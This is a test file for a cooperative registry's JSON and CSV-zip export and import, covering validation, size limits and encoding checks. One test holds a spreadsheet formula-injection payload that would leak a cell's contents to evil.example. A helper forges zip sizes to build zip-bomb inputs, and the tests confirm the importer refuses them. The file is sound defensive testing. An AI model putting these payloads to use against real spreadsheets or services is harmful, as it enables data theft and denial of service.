import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import pino from 'pino';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { countRows, publicUrl, startTestApi, type TestApi } from '../../../test/test-api.ts';
import { loadConfig } from '../../config.ts';
import { loadDemo } from '../../demo/load-demo.ts';
import { systemContext } from '../../main.ts';
import type { Context } from '../../platform/context.ts';
import { generateNetwork } from './demo/generate-network.ts';
import { registryToCsvZip } from './exchange/registry-csv.ts';
import {
  addToRegistry,
  exportRegistry,
  importRegistry,
  importRegistryFile,
  readRegistry,
} from './index.ts';

let source: TestApi;
let sourceContext: Context;

function contextFor(api: TestApi): Context {
  const config = loadConfig({ PUBLIC_URL: publicUrl, LOG_LEVEL: 'silent' });
  const log = pino({ level: 'silent' });
  return systemContext(config, api.database, log, api.services, publicUrl);
}

async function emptyInstance<T>(work: (ctx: Context, api: TestApi) => Promise<T>): Promise<T> {
  const api = await startTestApi();
  try {
    return await work(contextFor(api), api);
  } finally {
    await api.close();
  }
}

beforeAll(async () => {
  source = await startTestApi();
  sourceContext = contextFor(source);
  await loadDemo(sourceContext);
  // A logo, so that binary content travels too.
  const image = await sharp({
    create: { width: 64, height: 48, channels: 3, background: '#1b6b4a' },
  })
    .png()
    .toBuffer();
  const [first] = (
    await source.app.inject({ method: 'GET', url: '/api/network/organizations?limit=1' })
  ).json().items;
  const logo = await source.admin.request({
    method: 'PUT',
    url: `/api/network/organizations/${first.id}/logo`,
    headers: { 'content-type': 'image/png' },
    payload: image,
  });
  expect(logo.statusCode, logo.body).toBe(200);
}, 120_000);
afterAll(async () => {
  await source?.close();
});

describe('export and import of the whole registry', () => {
  for (const format of ['json', 'csv'] as const) {
    it(`${format}: export, import into an empty database, export again gives the same file`, async () => {
      const first = await exportRegistry(sourceContext, format);
      const counts = await emptyInstance(async (ctx) => {
        const imported = await importRegistry(ctx, { bytes: first.body, format });
        const again = await exportRegistry(ctx, format);
        expect(again.body.equals(first.body), 'the second export differs from the first').toBe(
          true,
        );
        return imported;
      });
      expect(counts).toEqual({
        organizations: await countRows(source.database, 'network_organization'),
        affiliations: await countRows(source.database, 'network_affiliation'),
        partnerships: await countRows(source.database, 'network_partnership'),
        logos: 1,
        projects: await countRows(source.database, 'network_project'),
        projectCountries: await countRows(source.database, 'network_project_country'),
        projectParticipants: await countRows(source.database, 'network_project_participant'),
        projectFigures: await countRows(source.database, 'network_project_figure'),
        intents: await countRows(source.database, 'network_intent'),
        tieClaims: await countRows(source.database, 'network_tie_claim'),
      });
      // The demo holds projects, figures and offers/needs, so the round trip carried some.
      expect(counts.projects).toBeGreaterThan(0);
      expect(counts.projectFigures).toBeGreaterThan(0);
      expect(counts.intents).toBeGreaterThan(0);
    }, 120_000);
  }

  it('csv: one file a table, and every field of an organization present', async () => {
    const { body } = await exportRegistry(sourceContext, 'csv');
    const files = unzipSync(new Uint8Array(body));
    expect(
      Object.keys(files)
        .filter((name) => !name.startsWith('logos/'))
        .sort(),
    ).toEqual([
      'affiliations.csv',
      'intents.csv',
      'logos.csv',
      'manifest.json',
      'organizations.csv',
      'partnerships.csv',
      'project-countries.csv',
      'project-figures.csv',
      'project-participants.csv',
      'projects.csv',
      'tie-claims.csv',
    ]);
    const header = strFromU8(files['organizations.csv'] as Uint8Array).split('\n')[0];
    expect(header).toBe(
      'id,name,shortName,otherNames,kind,legalForm,sector,country,region,locality,latitude,longitude,languages,foundingYear,membersTotal,membersWomen,membersMen,employees,website,contacts,description,descriptions,principles,isDemo,version,createdAt,updatedAt',
    );
  });

  it('csv: text cells are safe to open in a spreadsheet, and come back exactly', async () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
    const fields = {
      name: formula,
      shortName: "'Quoted",
      legalForm: '@cooperative',
      region: '+91 Region',
      description: '- one\n- two',
      coordinates: { lat: -33.45, lon: -70.66 },
      contacts: { phone: '+919876543210' },
    };
    const first = await emptyInstance(async (ctx, api) => {
      await api.createOrganization(fields);
      return exportRegistry(ctx, 'csv');
    });
    const files = unzipSync(new Uint8Array(first.body));
    for (const [name, content] of Object.entries(files)) {
      if (!name.endsWith('.csv')) continue;
      for (const cell of parse(strFromU8(content)).flat() as string[]) {
        // Only numbers (a negative latitude) may start with a sign.
        if (/^[=+\-@\t\r]/.test(cell)) expect(cell, `${name}: ${cell}`).toMatch(/^-\d+(\.\d+)?$/);
      }
    }
    const [header, row] = parse(strFromU8(files['organizations.csv'] as Uint8Array)) as string[][];
    const cell = (column: string) => row?.[header?.indexOf(column) ?? -1];
    expect(cell('name')).toBe(`'${formula}`);
    expect(cell('shortName')).toBe("''Quoted");
    expect(cell('latitude')).toBe('-33.45');
    expect(JSON.parse(cell('contacts') ?? '')).toEqual({ phone: '+919876543210' });
    await emptyInstance(async (ctx, api) => {
      await importRegistry(ctx, { bytes: first.body, format: 'csv' });
      const [imported] = (
        await api.app.inject({ method: 'GET', url: '/api/network/organizations' })
      ).json().items;
      const read = (
        await api.app.inject({ method: 'GET', url: `/api/network/organizations/${imported.id}` })
      ).json();
      expect(read).toMatchObject(fields);
      const again = await exportRegistry(ctx, 'csv');
      expect(again.body.equals(first.body), 'the second export differs from the first').toBe(true);
    });
  });

  it('a file with one bad line stores nothing and names the line and the field', async () => {
    const { body } = await exportRegistry(sourceContext, 'csv');
    const files = unzipSync(new Uint8Array(body));
    const lines = strFromU8(files['organizations.csv'] as Uint8Array).split('\n');
    const target = 17;
    lines[target - 1] = (lines[target - 1] as string).replace(
      /,(IN|ES|US|GB|BE|PH|KE|BF|JP|BR|LR|FR|GH),/,
      ',XX,',
    );
    files['organizations.csv'] = strToU8(lines.join('\n'));
    const spoiled = Buffer.from(zipSync(files));
    await emptyInstance(async (ctx, api) => {
      await expect(importRegistry(ctx, { bytes: spoiled, format: 'csv' })).rejects.toMatchObject({
        code: 'validation-failed',
        message: expect.stringMatching(
          new RegExp(`organizations\\.csv line ${target}, field country: .*Nothing was imported`),
        ),
        // The place again as data, for a client to word in its reader's language.
        details: { source: { file: 'organizations.csv', line: target } },
      });
      expect(await countRows(api.database, 'network_organization')).toBe(0);
      expect(await countRows(api.database, 'network_affiliation')).toBe(0);
    });
  });

  it('csv: every column of projects, their countries, participants and figures, and intents', async () => {
    const files = unzipSync(new Uint8Array((await exportRegistry(sourceContext, 'csv')).body));
    const header = (file: string) => strFromU8(files[file] as Uint8Array).split('\n')[0];
    expect(header('projects.csv')).toBe(
      'id,title,summary,sector,status,startedOn,endedOn,sources,isDemo,version,createdAt,updatedAt',
    );
    expect(header('project-countries.csv')).toBe('projectId,country');
    expect(header('project-participants.csv')).toBe('projectId,organizationId,role,note,createdAt');
    expect(header('project-figures.csv')).toBe(
      'id,projectId,kind,indicator,amount,currency,country,period,note,source,createdAt',
    );
    expect(header('intents.csv')).toBe(
      'id,organizationId,direction,title,description,sector,countries,kind,validFrom,validUntil,status,closedAt,isDemo,version,createdAt,updatedAt',
    );
    // Money stays an exact decimal string with its currency.
    expect(strFromU8(files['project-figures.csv'] as Uint8Array)).toMatch(
      /,money-mobilised,\d+(\.\d+)?,[A-Z]{3},/,
    );
  });

  it('a bad line in projects.csv stores nothing and names the line and the field', async () => {
    const files = unzipSync(new Uint8Array((await exportRegistry(sourceContext, 'csv')).body));
    const lines = strFromU8(files['projects.csv'] as Uint8Array).split('\n');
    const status = /,(planned|active|completed|cancelled),/;
    const target = lines.findIndex((line, index) => index > 1 && status.test(line)) + 1;
    expect(target).toBeGreaterThan(2);
    lines[target - 1] = (lines[target - 1] as string).replace(status, ',finished,');
    files['projects.csv'] = strToU8(lines.join('\n'));
    const spoiled = Buffer.from(zipSync(files));
    await emptyInstance(async (ctx, api) => {
      await expect(importRegistry(ctx, { bytes: spoiled, format: 'csv' })).rejects.toMatchObject({
        code: 'validation-failed',
        message: expect.stringMatching(
          new RegExp(`projects\\.csv line ${target}, field status: .*Nothing was imported`),
        ),
      });
      expect(await countRows(api.database, 'network_organization')).toBe(0);
      expect(await countRows(api.database, 'network_project')).toBe(0);
    });
  });

  it("a figure whose country is not one of its project's countries is refused with its place", async () => {
    const document = JSON.parse(
      (await exportRegistry(sourceContext, 'json')).body.toString('utf8'),
    );
    const index = document.projectFigures.length - 1;
    const figure = document.projectFigures[index];
    const countries = new Set(
      document.projectCountries
        .filter((row: { projectId: string }) => row.projectId === figure.projectId)
        .map((row: { country: string }) => row.country),
    );
    figure.country = ['IS', 'NZ', 'UY'].find((code) => !countries.has(code));
    // Money is checked by the projects module's own rules: GBP has two decimals.
    const tooExact = structuredClone(document);
    const money = tooExact.projectFigures.findIndex(
      (row: { currency: string | null }) => row.currency === 'GBP',
    );
    tooExact.projectFigures[money].amount = '10.125';
    const unknownProject = structuredClone(document);
    unknownProject.projectParticipants[0].projectId = '0190f0c4-8e2a-7c3b-9d1e-2f3a4b5c6d7e';
    await emptyInstance(async (ctx, api) => {
      await expect(
        importRegistry(ctx, { bytes: Buffer.from(JSON.stringify(document)), format: 'json' }),
      ).rejects.toMatchObject({
        code: 'validation-failed',
        message: expect.stringMatching(
          new RegExp(
            `projectFigures\\[${index}\\], field country: This country is not one of its project's countries`,
          ),
        ),
        details: { errors: [{ pointer: `/projectFigures/${index}/country` }] },
      });
      await expect(
        importRegistry(ctx, {
          bytes: Buffer.from(JSON.stringify(unknownProject)),
          format: 'json',
        }),
      ).rejects.toThrow(/projectParticipants\[0\], field projectId: No project in the file/);
      await expect(
        importRegistry(ctx, { bytes: Buffer.from(JSON.stringify(tooExact)), format: 'json' }),
      ).rejects.toThrow(
        new RegExp(`projectFigures\\[${money}\\], field amount: GBP has 2 decimal places`),
      );
      expect(await countRows(api.database, 'network_project_figure')).toBe(0);
      expect(await countRows(api.database, 'network_organization')).toBe(0);
    });
  });

  it('a tie to an organization not in the file, or a cycle, is refused with its place', async () => {
    const document = JSON.parse(
      (await exportRegistry(sourceContext, 'json')).body.toString('utf8'),
    );
    const dangling = structuredClone(document);
    dangling.partnerships[3].toId = '0190f0c4-8e2a-7c3b-9d1e-2f3a4b5c6d7e';
    const cycle = structuredClone(document);
    const tie = cycle.affiliations[0];
    cycle.affiliations.push({
      ...tie,
      id: '0190f0c4-8e2a-7c3b-9d1e-2f3a4b5c6d70',
      memberId: tie.parentId,
      parentId: tie.memberId,
    });
    await emptyInstance(async (ctx, api) => {
      await expect(
        importRegistry(ctx, { bytes: Buffer.from(JSON.stringify(dangling)), format: 'json' }),
      ).rejects.toThrow(/partnerships\[3\], field toId: No organization in the file has this id/);
      await expect(
        importRegistry(ctx, { bytes: Buffer.from(JSON.stringify(cycle)), format: 'json' }),
      ).rejects.toThrow(/cycle/);
      expect(await countRows(api.database, 'network_organization')).toBe(0);
    });
  });

  it('a language code of the wrong form is refused with its place, not a crash', async () => {
    const document = JSON.parse(
      (await exportRegistry(sourceContext, 'json')).body.toString('utf8'),
    );
    document.organizations[2].languages = ['e'];
    await emptyInstance(async (ctx, api) => {
      await expect(
        importRegistry(ctx, { bytes: Buffer.from(JSON.stringify(document)), format: 'json' }),
      ).rejects.toMatchObject({
        code: 'validation-failed',
        message: expect.stringMatching(/^organizations\[2\], field languages\/0: /),
      });
      expect(await countRows(api.database, 'network_organization')).toBe(0);
    });
  });

  it('refuses an import into a registry that is not empty, and files that are not exports', async () => {
    const { body } = await exportRegistry(sourceContext, 'json');
    await expect(
      importRegistry(sourceContext, { bytes: body, format: 'json' }),
    ).rejects.toMatchObject({ code: 'conflict' });
    await emptyInstance(async (ctx) => {
      await expect(
        importRegistry(ctx, { bytes: Buffer.from('{"hello": 1}'), format: 'json' }),
      ).rejects.toThrow(/not a registry export/);
      await expect(
        importRegistry(ctx, { bytes: Buffer.from('not json'), format: 'json' }),
      ).rejects.toThrow(/not valid JSON/);
      await expect(
        importRegistry(ctx, { bytes: Buffer.from('not a zip'), format: 'csv' }),
      ).rejects.toThrow(/not a zip/);
    });
  });
});

describe('export and import over HTTP', () => {
  it('network admins download an export and upload it into an empty instance', async () => {
    const exported = await source.admin.request({
      method: 'GET',
      url: '/api/network/registry/export?format=csv',
    });
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-type']).toBe('application/zip');
    expect(exported.headers['content-disposition']).toMatch(
      /attachment; filename="intercoop-registry-\d{4}-\d{2}-\d{2}\.zip"/,
    );
    await emptyInstance(async (_ctx, api) => {
      const imported = await api.admin.request({
        method: 'POST',
        url: '/api/network/registry/import',
        headers: { 'content-type': 'application/zip' },
        payload: exported.rawPayload,
      });
      expect(imported.statusCode, imported.body).toBe(201);
      expect(imported.json()).toMatchObject({
        organizations: await countRows(source.database, 'network_organization'),
        projects: await countRows(source.database, 'network_project'),
        intents: await countRows(source.database, 'network_intent'),
      });
    });
  }, 120_000);
});

describe('a generated network', () => {
  it('has real-looking names, about three ties an organization, and no cycle', async () => {
    const data = generateNetwork(1_000, 3);
    expect(data.organizations).toHaveLength(1_000);
    expect(new Set(data.organizations.map((entry) => entry.name)).size).toBe(1_000);
    expect(
      data.organizations.some((entry) => /(Cooperative|Organization) \d+$/.test(entry.name)),
    ).toBe(false);
    const ties = data.affiliations.length + data.partnerships.length;
    expect(ties / data.organizations.length).toBeGreaterThan(2.7);
    expect(new Set(data.organizations.map((entry) => entry.country)).size).toBeGreaterThanOrEqual(
      10,
    );
    // The same seed gives the same names.
    expect(generateNetwork(1_000, 3).organizations.map((entry) => entry.name)).toEqual(
      data.organizations.map((entry) => entry.name),
    );
    // Projects, about one per 50 organizations: a lead and one to three others, one or two
    // countries, figures in those countries; offers and needs, about one per 5.
    expect(data.projects.length).toBe(20);
    for (const project of data.projects) {
      const participants = data.projectParticipants.filter((row) => row.projectId === project.id);
      expect(participants.filter((row) => row.role === 'lead')).toHaveLength(1);
      expect(participants.length).toBeGreaterThanOrEqual(2);
      expect(participants.length).toBeLessThanOrEqual(4);
      const countries = data.projectCountries.filter((row) => row.projectId === project.id);
      expect(countries.length).toBeGreaterThanOrEqual(1);
      expect(countries.length).toBeLessThanOrEqual(2);
    }
    expect(data.projectFigures.some((row) => row.kind === 'result')).toBe(true);
    expect(data.projectFigures.some((row) => row.currency !== null)).toBe(true);
    expect(data.intents.length).toBe(200);
    expect(new Set(data.intents.map((row) => row.direction))).toEqual(new Set(['offer', 'need']));
    expect(generateNetwork(1_000, 3).intents.map((row) => row.title)).toEqual(
      data.intents.map((row) => row.title),
    );
    await emptyInstance(async (ctx, api) => {
      const counts = await addToRegistry(ctx, data);
      expect(counts.organizations).toBe(1_000);
      expect(await countRows(api.database, 'network_partnership')).toBe(data.partnerships.length);
      expect(counts.projects).toBe(20);
      expect(await countRows(api.database, 'network_project')).toBe(20);
      expect(await countRows(api.database, 'network_project_figure')).toBe(
        data.projectFigures.length,
      );
      expect(await countRows(api.database, 'network_intent')).toBe(200);
      // What was generated reads back as the same rows.
      const stored = await readRegistry(ctx);
      expect(stored.projectFigures.map((row) => row.amount).sort()).toEqual(
        data.projectFigures.map((row) => row.amount).sort(),
      );
    });
  }, 120_000);
});

/** The context of `api` with these settings. */
function withSettings(ctx: Context, settings: Record<string, string>): Context {
  return {
    ...ctx,
    config: loadConfig({ PUBLIC_URL: publicUrl, LOG_LEVEL: 'silent', ...settings }),
  };
}

/** A zip whose central directory (and local header) says that `name` inflates to `size` bytes. */
function declaringSize(zip: Uint8Array, name: string, size: number): Buffer {
  const bytes = Buffer.from(zip);
  for (const [signature, sizeAt, nameLengthAt, nameAt] of [
    [0x04034b50, 22, 26, 30],
    [0x02014b50, 24, 28, 46],
  ] as const) {
    for (
      let at = bytes.indexOf(Buffer.from([0x50, 0x4b]));
      at !== -1;
      at = bytes.indexOf(Buffer.from([0x50, 0x4b]), at + 1)
    ) {
      if (bytes.readUInt32LE(at) !== signature) continue;
      const length = bytes.readUInt16LE(at + nameLengthAt);
      if (bytes.toString('utf8', at + nameAt, at + nameAt + length) === name)
        bytes.writeUInt32LE(size, at + sizeAt);
    }
  }
  return bytes;
}

describe('imports within limits', () => {
  const manifest = strToU8(JSON.stringify({ format: 'intercoop-registry', version: 1 }));
  // One empty instance for these refusals (each stores nothing), its body limit at 1 MiB.
  let target: TestApi;
  let targetContext: Context;
  beforeAll(async () => {
    target = await startTestApi({ IMPORT_MAX_MIB: '1' });
    targetContext = contextFor(target);
  });
  afterAll(async () => {
    await target?.close();
  });
  const inEmptyTarget = async <T>(work: (ctx: Context, api: TestApi) => Promise<T>) => {
    const result = await work(targetContext, target);
    expect(await countRows(target.database, 'network_organization')).toBe(0);
    return result;
  };

  it('a zip that says it inflates past the limits is refused from its directory, before inflating', async () => {
    const small = zipSync({ 'manifest.json': manifest, 'organizations.csv': strToU8('id\n') });
    const bomb = declaringSize(small, 'organizations.csv', 1024 * 1024 * 1024);
    await inEmptyTarget(async (ctx) => {
      // Were it inflated, its 4 bytes would be found short of what it declares.
      await expect(importRegistry(ctx, { bytes: bomb, format: 'csv' })).rejects.toMatchObject({
        code: 'too-large',
        message: expect.stringMatching(/^organizations\.csv in the archive is more than 128 MiB/),
      });
      const limited = withSettings(ctx, {
        IMPORT_MAX_INFLATED_MIB: '1',
        IMPORT_MAX_INFLATED_FILE_MIB: '1',
      });
      const large = strToU8('x'.repeat(700 * 1024));
      const twoFiles = Buffer.from(
        zipSync({ 'manifest.json': manifest, 'organizations.csv': large, 'logos.csv': large }),
      );
      await expect(
        importRegistry(limited, { bytes: twoFiles, format: 'csv' }),
      ).rejects.toMatchObject({
        code: 'too-large',
        message: expect.stringMatching(/^The archive is more than 1 MiB once inflated/),
      });
    });
  });

  it('a zip whose directory lies about its sizes is stopped as it inflates', async () => {
    const large = strToU8(`id\n${'x'.repeat(3 * 1024 * 1024)}\n`);
    const lying = declaringSize(
      zipSync({ 'manifest.json': manifest, 'organizations.csv': large }),
      'organizations.csv',
      1024,
    );
    await inEmptyTarget(async (ctx, api) => {
      const limited = withSettings(ctx, { IMPORT_MAX_INFLATED_FILE_MIB: '1' });
      await expect(importRegistry(limited, { bytes: lying, format: 'csv' })).rejects.toMatchObject({
        message: expect.stringMatching(/^organizations\.csv in the archive/),
      });
      expect(await countRows(api.database, 'network_organization')).toBe(0);
    });
  });

  it('refuses text that is not UTF-8, or holds a NUL, naming the file and the line', async () => {
    const files = unzipSync(new Uint8Array((await exportRegistry(sourceContext, 'csv')).body));
    const lines = strFromU8(files['organizations.csv'] as Uint8Array).split('\n');
    // A line in plain ASCII, so that only what is put in it differs between the encodings.
    const target = lines.findIndex((line, index) => index > 3 && /^[\x20-\x7e]+$/.test(line)) + 1;
    const spoiled = (encode: (line: string) => Buffer, insert: string) => {
      const bytes = lines.map((line, index) =>
        index === target - 1
          ? encode(line.replace(/^([0-9a-f-]{36}),/, `$1,${insert}`))
          : Buffer.from(line, 'utf8'),
      );
      const content = Buffer.concat(bytes.flatMap((line) => [line, Buffer.from('\n')]));
      return Buffer.from(zipSync({ ...files, 'organizations.csv': new Uint8Array(content) }));
    };
    await inEmptyTarget(async (ctx, api) => {
      await expect(
        importRegistry(ctx, {
          bytes: spoiled((line) => Buffer.from(line, 'latin1'), 'Coopérative '),
          format: 'csv',
        }),
      ).rejects.toMatchObject({
        code: 'validation-failed',
        message: expect.stringMatching(
          new RegExp(`^organizations\\.csv line ${target} is not UTF-8 text`),
        ),
        details: {
          errors: [
            { code: 'invalid-encoding', params: { file: 'organizations.csv', line: target } },
          ],
        },
      });
      await expect(
        importRegistry(ctx, {
          bytes: spoiled((line) => Buffer.from(line, 'utf8'), 'Nul\u0000 '),
          format: 'csv',
        }),
      ).rejects.toMatchObject({
        message: expect.stringMatching(
          new RegExp(`^organizations\\.csv line ${target} holds a NUL character`),
        ),
      });
      const document = JSON.parse(
        (await exportRegistry(sourceContext, 'json')).body.toString('utf8'),
      );
      document.organizations[2].name = 'Escaped \u0000 NUL';
      const latin1 = Buffer.from(
        JSON.stringify({ ...document, organizations: [] }, null, 1).replace(
          '"organizations": []',
          '"organizations": ["Caf\u00e9"]',
        ),
        'latin1',
      );
      await expect(
        importRegistry(ctx, { bytes: Buffer.from(JSON.stringify(document)), format: 'json' }),
      ).rejects.toMatchObject({
        message: expect.stringMatching(/^organizations\[2\], field name: /),
        details: { errors: [{ pointer: '/organizations/2/name', code: 'control-characters' }] },
      });
      await expect(importRegistry(ctx, { bytes: latin1, format: 'json' })).rejects.toMatchObject({
        message: expect.stringMatching(/^The JSON file line 4 is not UTF-8 text/),
      });
      expect(await countRows(api.database, 'network_organization')).toBe(0);
    });
  });

  it('over HTTP: a registry that is not empty, or a file over the limit, is refused before it is read', async () => {
    const notAZip = { 'content-type': 'application/zip' };
    // Not read at all: were it read, it would be refused as not a zip (400).
    const full = await source.admin.request({
      method: 'POST',
      url: '/api/network/registry/import',
      headers: notAZip,
      payload: Buffer.from('not a zip'),
    });
    expect(full.statusCode, full.body).toBe(409);
    const large = await target.admin.request({
      method: 'POST',
      url: '/api/network/registry/import',
      headers: notAZip,
      payload: Buffer.alloc(1024 * 1024 + 1),
    });
    expect(large.statusCode, large.body).toBe(413);
    expect(large.json()).toMatchObject({
      type: 'urn:intercoop:problem:too-large',
      detail: expect.stringMatching(/IMPORT_MAX_MIB/),
    });
  });

  it('the command: refused before the file is read when the registry is not empty or the file too large', async () => {
    await expect(
      importRegistryFile(sourceContext, '/nonexistent/registry.zip'),
    ).rejects.toMatchObject({ code: 'conflict' });
    const file = path.join(os.tmpdir(), `intercoop-import-${process.pid}.zip`);
    fs.writeFileSync(file, Buffer.alloc(1024 * 1024 + 1));
    try {
      await inEmptyTarget(async (ctx) => {
        await expect(
          importRegistryFile(withSettings(ctx, { IMPORT_MAX_MIB: '1' }), file),
        ).rejects.toMatchObject({ code: 'too-large' });
      });
    } finally {
      fs.rmSync(file);
    }
  });

  for (const format of ['json', 'csv'] as const) {
    it(`${format}: the server answers /health all through a large import`, async () => {
      const data = generateNetwork(10_000, 11);
      // The last row is wrong: the whole file is read and checked, then refused (nothing stored).
      (data.intents.at(-1) as { organizationId: string }).organizationId =
        '0190f0c4-8e2a-7c3b-9d1e-2f3a4b5c6d7e';
      const bytes =
        format === 'csv'
          ? Buffer.from(registryToCsvZip(data))
          : Buffer.from(JSON.stringify({ format: 'intercoop-registry', version: 1, ...data }));
      await inEmptyTarget(async (ctx, api) => {
        let settled = false;
        const importing = importRegistry(ctx, { bytes, format }).then(
          () => undefined,
          (error: unknown) => error,
        );
        importing.finally(() => {
          settled = true;
        });
        let answeredDuringImport = 0;
        // A client asking every millisecond or so (an injected request alone would be answered
        // without the event loop turning, leaving the import no turn either).
        while (!settled) {
          const health = await api.app.inject({ method: 'GET', url: '/health' });
          expect(health.statusCode).toBe(200);
          if (!settled) answeredDuringImport += 1;
          await new Promise((resolve) => setTimeout(resolve, 1));
        }
        expect(await importing).toMatchObject({
          code: 'validation-failed',
          message: expect.stringMatching(/field organizationId: No organization in the file/),
        });
        // Health checks went on being answered while the file was read and checked, not only
        // before it and after.
        expect(answeredDuringImport).toBeGreaterThan(10);
      });
    }, 120_000);
  }
});
